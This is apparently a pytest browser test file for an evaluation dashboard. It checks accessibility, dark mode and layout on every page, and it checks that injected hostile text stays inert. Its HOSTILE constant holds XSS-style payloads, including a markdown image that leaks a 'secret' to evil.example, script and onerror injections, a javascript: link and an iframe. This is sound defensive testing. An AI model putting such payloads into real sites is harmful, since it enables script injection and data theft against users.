"""Every page in a real Chromium, empty and full, light and dark: accessible, quiet, and deaf to hostile texts."""

import json
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest

from browser_app import ARGS, CHROMIUM, App, clean, free_port, new_tab, violations
from cache.store import Store
from dashboard.launch import models_of, save_comparison
from dashboard.progress_file import write_progress
from dashboard.set_building import armed, build
from dashboard.workspace import Workspace
from facts.catalog import load
from facts.documents.phrase import TIERS
from facts.documents.set_plan import Carried, SetPlan
from facts.salience import Dose, Polarity, Salience
from filled_workspace import fill
from judged_workspace import JUDGED, judge
from runners.keep import to_record
from runners.planning import trials
from runners.progress import ModelProgress, Progress, State
from runners.sample import Sample, Stop, Usage

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; install it or set CHROMIUM=/path/to/it"),
]
PAGES = ("", "run_comparison", "watch_runs", "see_results", "read_samples", "label_samples", "read_documents",
         "export_results")  # fmt: skip
HOSTILE = (
    "A\n![x](http://evil.example/leak?secret=1) <img src=http://evil.example/a onerror=alert(1)> "
    "<script>document.title='owned'</script> [click](javascript:alert(1)) :material/home: $x^2$ \u202eabc\u200b "
    "<style>@import 'http://evil.example/s'</style> <iframe src=http://evil.example/f></iframe>"
)
PLAN = SetPlan(count=8, seed="0", carried=(Carried(
    dose=Dose(fact="objections_read", level=Salience.REPEATED, polarity=Polarity.AFFIRMED)),))  # fmt: skip


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        yield (opened := playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS))
        opened.close()


def running(root):
    app = App(root, free_port())
    app.start()
    return app


@pytest.fixture(scope="module")
def empty(tmp_path_factory):
    yield (app := running(tmp_path_factory.mktemp("empty") / "ws"))
    app.stop()


@pytest.fixture(scope="module")
def full(tmp_path_factory):
    """A judged simulated comparison, document sets, and a run that is over."""
    root = tmp_path_factory.mktemp("full") / "ws"
    with ThreadPoolExecutor(1) as apart:  # Playwright has an event loop of its own in this thread
        apart.submit(judge, root, replace(JUDGED, queries=4, replicates=1, votes=1)).result()
    list(build(armed(PLAN, ("neutral", "affirmed")), load(), root / "documents", TIERS, lambda _doing, _done: None))
    yield (app := running(root))
    app.stop()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Markdown images, HTML, bidi and zero-width text and a line of 1 MB wherever outside text can come from."""
    root = tmp_path_factory.mktemp("hostile") / "ws"
    filled = fill(root, fact="own_fact")  # its title and every fifth reply are hostile
    workspace = filled.workspace
    comparison = replace(filled.comparison, name="huge", queries=1, replicates=4, note=HOSTILE.replace("\n", " "))
    save_comparison(workspace, comparison)
    with Store(workspace.store) as store:
        planned = list(trials(comparison, filled.library, models_of(comparison, workspace)[0]))
        kept = store.has_many([trial.key for trial in planned])
        for number, trial in enumerate(trial for trial in planned if trial.key not in kept):
            text = HOSTILE + "x" * 1_000_000 if number == 0 else HOSTILE
            sample = Sample(text=text, stop=Stop.END, model=HOSTILE[:60], usage=Usage(), reasoning=HOSTILE)
            store.add(trial.key, to_record(trial.request, sample)).result()
    write_progress(workspace.run_folder("huge"), Progress(
        comparison="huge", state=State.STOPPED, message=HOSTILE, calls=3,
        models=(ModelProgress(label="openai/test-model", planned=9, done=1, failures={"refused_request": 2},
                              messages={"refused_request": HOSTILE}, resolved=(HOSTILE,)),),
    ))  # fmt: skip
    list(build(armed(PLAN, ("affirmed",)), load(), workspace.documents, TIERS, lambda _doing, _done: None))
    for path in workspace.documents.glob("*/set.json"):
        said = json.loads(path.read_text(encoding="utf-8"))
        said["carried"][0]["claim"] = said["carried"][0]["fact"] = HOSTILE
        path.write_text(json.dumps(said), encoding="utf-8")
    labels = workspace.root / "labels" / "small" / "refusal.jsonl"
    labels.parent.mkdir(parents=True)
    labels.write_text(HOSTILE.replace("\n", " ") + "\n", encoding="utf-8")
    yield (app := running(root))
    app.stop()


def seen(tab, url):
    tab.open(url)
    tab.page.get_by_role("heading", level=1).wait_for()
    tab.page.wait_for_timeout(300)  # late images would be fetched now
    tab.quiet()


def looked_over(tab):
    """Accessible on a light and on a dark ground, and not cut in a narrow window."""
    page = tab.page
    assert violations(page) == []
    page.emulate_media(color_scheme="dark")
    page.wait_for_function("() => getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor"
                           " === 'rgb(3, 4, 5)'")  # fmt: skip
    tab.quiet()
    page.wait_for_timeout(400)  # colours fade into each other
    assert violations(page) == []
    page.set_viewport_size({"width": 768, "height": 900})
    page.wait_for_timeout(200)
    main = "document.querySelector('[data-testid=stMain]')"
    assert page.evaluate(f"() => {main}.scrollWidth - {main}.clientWidth") <= 0
    clean(tab)
    tab.close()


@pytest.mark.parametrize("name", PAGES)
def test_every_page_starts_non_empty_accessible_and_quiet(empty, browser, name):
    tab = new_tab(browser)
    seen(tab, f"{empty.url}/{name}")
    assert len(tab.page.locator("[data-testid=stMain]").inner_text()) > 200
    looked_over(tab)


@pytest.mark.parametrize("name", PAGES)
def test_every_page_with_results_is_accessible_and_quiet(full, browser, name):
    tab = new_tab(browser)
    seen(tab, f"{full.url}/{name}?comparison=judged")
    looked_over(tab)


@pytest.mark.parametrize("comparison", ["small", "huge"])
def test_hostile_text_is_shown_on_every_page_and_nothing_of_it_is_live(hostile, browser, comparison):
    tab = new_tab(browser)
    more = {
        "": ["?doses=own_fact:5a", "?doses=own_fact:5a&p_view=Difference+to+baseline"],
        "read_samples": [f"?comparison={comparison}&r_view=Beside+no+fact"],
        "see_results": [f"?comparison={comparison}&s_tab={name}" for name in ("Over+salience", "Effects", "Classes")],
        "read_documents": ["?d_tab=Documents", "?d_tab=Export"],
    }
    for name in PAGES:
        for query in (f"?comparison={comparison}", *more.get(name, ())):
            seen(tab, f"{hostile.url}/{name}{query}")
            assert tab.page.title() != "owned"
            assert tab.page.locator("[data-testid=stMain] iframe").count() == 0
            assert tab.page.locator("[data-testid=stException]").count() == 0
    clean(tab)
    tab.close()


def test_a_hostile_sample_is_read_in_full(hostile, browser):
    workspace = Workspace(root=hostile.workspace)
    with Store(workspace.store) as store:
        key = max(((len(value), key) for key, value in store.rows() if isinstance(value, bytes)))[1]
    tab = new_tab(browser)
    seen(tab, f"{hostile.url}/read_samples?comparison=huge&sample={key}")
    tab.page.get_by_text("evil.example/leak").first.wait_for(timeout=30_000)
    assert violations(tab.page) == []
    clean(tab)
    tab.close()


def test_a_link_shows_the_same_in_a_fresh_profile(full, browser):
    one = new_tab(browser)
    seen(one, f"{full.url}/see_results?comparison=judged&s_tab=Effects&s_measure=Refused+(judge)")
    one.page.get_by_text("Measure", exact=True).first.wait_for()  # a busy machine draws the fields after the text
    link, heading = one.page.url, one.page.locator("[data-testid=stMain]").inner_text()
    two = new_tab(browser)
    seen(two, link)
    two.page.get_by_text("Measure", exact=True).first.wait_for()
    assert two.page.locator("[data-testid=stMain]").inner_text() == heading
    assert "Refused (judge)" in heading
    for tab in (one, two):
        clean(tab)
        tab.close()


def test_the_command_line_opens_the_dashboard_it_says(full):
    done = subprocess.run(
        [sys.executable, "-m", "dashboard", "--workspace", str(full.workspace), "watch", "judged", "--once"],
        capture_output=True, check=True, text=True,
    )  # fmt: skip
    assert "finished" in done.stdout
